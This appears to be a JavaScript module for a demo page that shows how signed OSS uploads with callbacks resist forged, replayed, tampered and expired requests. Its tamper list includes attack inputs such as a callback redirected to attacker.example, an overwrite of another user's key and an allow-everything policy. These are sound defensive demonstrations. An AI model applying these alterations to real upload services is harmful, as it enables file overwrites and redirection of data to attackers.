// Attacks and accidents, on demand: what is sent, what comes of it, and why.

import { byId, code, el, more, table } from "./dom.js";
import { add } from "./queue.js";
import { askToken, formOf, post } from "./transfer.js";
import { LAYER_REASONS, readError } from "./words.js";
import * as steps from "./steps.js";

const FORGERIES = {
  unsigned: "A POST without a signature, as anybody can send it",
  ownKey: "Signed, with a key URL that leads to the attacker's own server",
  otherCustomer: "Signed by OSS, for another customer's bucket, with this server's address as callback",
  stolenTicket: "Signed by OSS, with the ticket of the last upload, about another object",
  changed: "The last genuine callback, with one digit of its size changed",
};

/** What is done to a form that was granted, and what the policy says to it. */
const ALTERATIONS = [
  ["Another name: overwrite somebody's file", "The policy names the one key.",
    (fields) => ({ ...fields, key: "demo/of-somebody-else.txt" })],
  ["Another type: a web page instead of text", "The policy names the type, so no page of yours can be planted.",
    (fields) => ({ ...fields, "x-oss-content-type": "text/html" })],
  ["Another callback: tell a different server", "The policy holds the whole callback.",
    (fields) => ({ ...fields, callback: btoa(JSON.stringify({ callbackUrl: "http://attacker.example/", callbackBody: "object=${object}" })) })],
  ["Without a callback: keep it from your server", "A condition on a field that is not there fails.",
    ({ callback, ...fields }) => fields],
  ["A policy of its own: allow everything", "The signature belongs to the policy that was signed.",
    (fields) => ({ ...fields, policy: btoa(JSON.stringify({ expiration: "2099-01-01T00:00:00Z", conditions: [] })) })],
  ["A larger file than was asked for", "The policy holds the exact size.",
    (fields) => fields, "x".repeat(5000)],
];

export function setup(config) {
  const run = (id, work) => byId(id).addEventListener("click", async (event) => {
    const button = event.currentTarget;
    button.disabled = true;
    try {
      await work(config);
    } catch (error) {
      tell("It could not be tried", el("p", {}, error.message));
    }
    button.disabled = false;
    // A button that is disabled loses the focus; whoever has moved on keeps it where it is.
    if (document.activeElement === document.body) button.focus();
  });
  run("forge", forge);
  run("replay", replay);
  run("tamper", tamper);
  run("expire", expire);
  run("fail", fail);
}

function tell(title, ...content) {
  byId("outcome").replaceChildren(el("h3", {}, title), ...content.filter(Boolean));
}

const ask = async (path) => {
  const response = await fetch(path, { method: "POST" });
  return response.json();
};

/** One attempt: whether it was held off, in words. */
function attempt(held, title, status, why, ...extra) {
  return el("li", { class: "attempt", "data-held": String(held) },
    el("p", { class: "line" }, el("strong", {}, title), el("span", { class: "status" }, status)),
    el("p", {}, why), ...extra);
}

const whatWasSent = (sent) => more("What was sent",
  el("p", { class: "quiet" }, `POST ${sent.target}`), table(sent.headers), code(sent.body));

const codeOf = (answer) => {
  try {
    return JSON.parse(answer).code ?? "";
  } catch {
    return "";
  }
};

async function forge() {
  const attempts = await ask("/demo/forge");
  const items = attempts.map((one) => {
    const name = codeOf(one.answer);
    const held = one.status >= 400 && one.runsBefore === one.runsAfter;
    const why = LAYER_REASONS[name] ?? one.answer;
    return attempt(held, FORGERIES[one.name] ?? one.name, `${one.status} ${name}`,
      held ? `${why} Your handler did not run.` : "It got through!", whatWasSent(one.sent));
  });
  const held = items.every((item) => item.dataset.held === "true");
  tell(held ? "Every forgery was refused" : "A forgery got through", el("ul", { class: "attempts" }, ...items),
    attempts.length < 4 ? el("p", { class: "quiet" }, "Upload a file first, and there are more to try.") : null);
}

async function replay() {
  if (byId("received").children.length === 0) {
    tell("Nothing to replay", el("p", {}, "No callback has come in yet. Upload a file first."));
    return;
  }
  const one = await ask("/demo/replay");
  const held = one.runsBefore === one.runsAfter;
  const why = held
    ? `The genuine callback came a second time, byte for byte. Its ticket is used, so it got the answer of the first time, and your handler did not run (still ${one.runsAfter} in all).`
    : "Your handler ran a second time!";
  tell(held ? "The replay was answered, and nothing ran" : "The replay ran the handler",
    el("ul", { class: "attempts" }, attempt(held, "The last callback, once more", String(one.status), why,
      more("What it was answered", code(one.answer)), whatWasSent(one.sent))));
}

async function tamper() {
  const items = [];
  for (const [title, why, alter, content = "hello"] of ALTERATIONS) {
    const asked = new File(["hello"], "tampered.txt", { type: "text/plain" });
    const sent = new File([content], "tampered.txt", { type: "text/plain" });
    const trace = steps.begin(sent);
    const { token, asked: path } = await askToken(asked);
    trace.token({ asked: path, token });
    const fields = alter(token.fields);
    trace.altered(fields);
    const answer = await post(token, formOf({ fields }, sent));
    const error = readError(answer.text);
    const held = answer.status >= 400;
    if (held) trace.failed({ message: why, detail: { status: answer.status, ...error }, id: answer.id });
    else trace.succeeded(answer);
    items.push(attempt(held, title, `${answer.status} ${error.code}`, held ? why : "OSS took it!",
      more("What OSS answered", code(`${error.message}${error.ec ? `\nEC ${error.ec}` : ""}`)),
      el("button", { type: "button", class: "small", onclick: () => steps.show(trace, true) }, "Show steps")));
    tell("Tampering…", el("ul", { class: "attempts" }, ...items));
  }
  const held = items.every((item) => item.dataset.held === "true");
  tell(held ? "OSS refused every altered form" : "An altered form got through", el("ul", { class: "attempts" }, ...items));
}

const text = (name) => new File([`Made by the page at ${new Date().toISOString()}\n`], name, { type: "text/plain" });

async function expire(config) {
  const [card] = add([text("too-late.txt")], config, { path: "/demo/policy/expired" });
  const done = (await card.done) === "done";
  tell(done ? "The token was renewed" : "The token was not renewed",
    el("p", {}, done
      ? "The first token was from an hour ago, so OSS refused the form. The page saw why, asked for a new token by itself, and sent the file again."
      : "See the file above for what happened."));
}

async function fail(config) {
  const [card] = add([text("unconfirmed.txt")], config, { path: "/demo/policy/failing" });
  await card.done;
  tell("Stored, but not confirmed", el("p", {},
    "Your handler answered 500. OSS keeps the file all the same and says 203 CallbackFailed, so the page does not take it for a success. “Try again” asks for a new token, because a name is taken once. Plan a clean-up of files that no callback has confirmed."));
}
